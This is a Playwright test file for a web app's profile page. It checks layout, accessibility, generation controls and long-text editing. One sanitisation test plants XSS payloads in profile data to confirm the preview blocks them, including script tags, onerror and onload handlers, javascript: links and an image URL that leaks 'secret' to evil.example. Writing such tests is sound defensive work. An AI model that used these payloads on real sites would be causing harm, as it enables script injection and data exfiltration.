import type { Locator, Page } from '@playwright/test';
import { expectNoViolationAtEachWidth } from './axe';
import { expect, MAYA, test } from './fixtures';
import { MOCK_API } from './origins';
import { editProfile, holdGeneration, profileDocument, profileTextField } from './profile-text';

const openTab = (page: Page) => page.goto('/profile?tab=createProfile');

/** The stored profile in the record. */
async function storedProfile(page: Page): Promise<unknown> {
  const response = await page.request.get(`${MOCK_API}/api/user/onboarding`);
  return ((await response.json()) as { profileData: unknown }).profileData;
}

/** Replaces the profile in the responses for the record. */
async function replaceProfile(page: Page, profileData: string): Promise<void> {
  await page.route('**/api/user/onboarding', async (route) => {
    const response = await route.fetch();
    const record = (await response.json()) as Record<string, unknown>;
    await route.fulfill({ response, json: { ...record, profileData } });
  });
}

test.beforeEach(async ({ mock }) => {
  await mock.set({ signIn: MAYA });
});

test(
  'the open Download menu is inside the window at each width',
  { tag: '@full' },
  async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await openTab(page);
    await page.getByRole('button', { name: 'Download' }).click();
    for (const width of [390, 320, 768, 1280]) {
      await page.setViewportSize({ width, height: 844 });
      for (const name of ['Markdown', 'Print or PDF'])
        await expect(page.getByRole('menuitem', { name })).toBeInViewport({ ratio: 1 });
    }
  },
);

test(
  'a profile that is being written has no accessibility violation',
  { tag: '@full' },
  async ({ page }) => {
    await holdGeneration(page);
    await openTab(page);
    await page.getByRole('button', { name: 'Generate again' }).click();
    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
    await expect(profileDocument(page).getByRole('heading')).toHaveCount(1);
    await expectNoViolationAtEachWidth(page);
    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  },
);

test('a double click on Generate again does not stop it, one on Stop neither saves nor edits the stopped text, and the way back saves the one before', async ({
  page,
  mock,
}) => {
  await mock.set({ streamPause: 1000 });
  await openTab(page);
  const before = await storedProfile(page);
  for (const width of [390, 1280]) {
    await page.setViewportSize({ width, height: 844 });
    await page.getByRole('button', { name: 'Generate again' }).dblclick();
    await expect(profileDocument(page).getByRole('heading')).toHaveCount(1);
    await page.getByRole('button', { name: 'Stop' }).dblclick({ delay: 40 });
    await expect(page.getByText(/^The text stopped early\./)).toBeVisible();
    await expect(profileTextField(page)).toHaveCount(0);
    await page.getByRole('button', { name: /^Go back to the version of/ }).click();
    await expect(profileDocument(page)).toContainText('The next step for a client');
  }
  expect(await mock.count('/update-profile')).toBe(2);
  expect(await storedProfile(page)).toBe(before);
});

test('the preview of a profile runs no script and loads nothing', async ({ page }) => {
  const requestedUrls: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    requestedUrls.push(route.request().url());
    return route.abort();
  });
  await replaceProfile(
    page,
    [
      '# Profile',
      '<script>window.hit = 1</script>',
      '<img src=x onerror="window.hit = 1">',
      '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
      '[press](javascript:window.hit=1) and [data](data:text/html,<script>1</script>)',
      '![seen](https://evil.example/pixel.png?text=secret)',
      '![inline](data:image/svg+xml,<svg/onload=alert(1)>)',
      `![${'long '.repeat(80)}](https://evil.example/long.png)`,
    ].join('\n\n'),
  );
  await openTab(page);
  await expect(page.getByRole('heading', { name: 'Profile', exact: true })).toBeVisible();
  await page.getByText('press').click();
  await expect(page.getByText('inline')).toBeVisible();
  expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined();
  expect(requestedUrls).toEqual([]);
  const panel = profileDocument(page);
  expect(await panel.locator('a[href], script, iframe, img').count()).toBe(0);
  const right = async (locator: Locator) => {
    const { x, width } = (await locator.boundingBox())!;
    return x + width;
  };
  const long = panel.getByRole('button', { name: /^Load image: long/ });
  expect(await right(long)).toBeLessThanOrEqual(await right(panel));

  await page.getByRole('button', { name: 'Load image: seen' }).click();
  await expect.poll(() => requestedUrls).toHaveLength(1);
});

test('a very long profile is edited and rendered', { tag: '@full' }, async ({ page }) => {
  const part = 'You help first-time managers with **one** conversation a week.\n\n';
  await replaceProfile(page, `${part.repeat(3300)}The last words.`);
  await openTab(page);
  const area = await editProfile(page);
  await expect(area).toHaveValue(/The last words\.$/);
  await area.press('Control+End');
  await area.pressSequentially(' And more.');
  await expect(area).toHaveValue(/The last words\. And more\.$/);
  await page.getByRole('button', { name: 'Done' }).click();
  // It renders section by section, which takes seconds on a busy machine.
  await expect(page.getByText('The last words. And more.')).toBeVisible({ timeout: 20_000 });
});

test('the row with Save and Done, and the error of a save, stay below the navigation bar while a long text is edited', async ({
  page,
  mock,
}) => {
  await mock.set({ failures: [{ path: '/update-profile', kind: 'server-error' }] });
  await replaceProfile(page, 'You help managers.\n\n'.repeat(200));
  await openTab(page);
  for (const width of [390, 1280]) {
    await page.setViewportSize({ width, height: 844 });
    const area = await editProfile(page);
    const fits = (element: HTMLElement) => element.scrollHeight <= element.clientHeight + 2;
    expect(await area.evaluate(fits)).toBe(true);
    await area.press('Control+End');
    await area.pressSequentially('The end.');
    const done = page.getByRole('button', { name: 'Done' });
    const save = page.getByRole('button', { name: 'Save' });
    await save.click();
    await expect(page.getByRole('alert')).toBeInViewport({ ratio: 1 });
    const bar = (await page.getByRole('banner').boundingBox())!;
    const box = (await done.boundingBox())!;
    expect(await page.evaluate(() => window.scrollY)).toBeGreaterThan(1000);
    expect(box.y).toBeGreaterThanOrEqual(bar.y + bar.height);
    await expect(done).toBeInViewport({ ratio: 1 });
    await expect(save).toBeInViewport({ ratio: 1 });
    await done.click();
    await page.evaluate(() => window.scrollTo(0, 0));
  }
});
